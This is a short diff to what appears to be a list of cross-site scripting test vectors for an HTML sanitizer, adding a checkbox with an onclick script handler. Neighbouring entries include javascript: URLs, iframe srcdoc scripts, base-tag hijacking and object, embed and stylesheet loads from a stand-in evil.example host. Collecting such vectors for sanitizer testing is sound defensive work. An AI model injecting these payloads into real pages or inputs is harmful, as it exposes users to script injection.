@@ -50,6 +50,7 @@ VECTORS = {
     "iframe": '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
     "object": '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>',
     "form": '<form action="https://evil.example/"><input><button formaction="javascript:alert(1)">Go</button></form>',
+    "task": '<ul><li><input type=checkbox checked onclick=alert(1) name=x form=y> tick</li></ul>',
     "base": '<base href="https://evil.example/">',
     "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
     "link element": '<link rel="stylesheet" href="https://evil.example/x.css">',
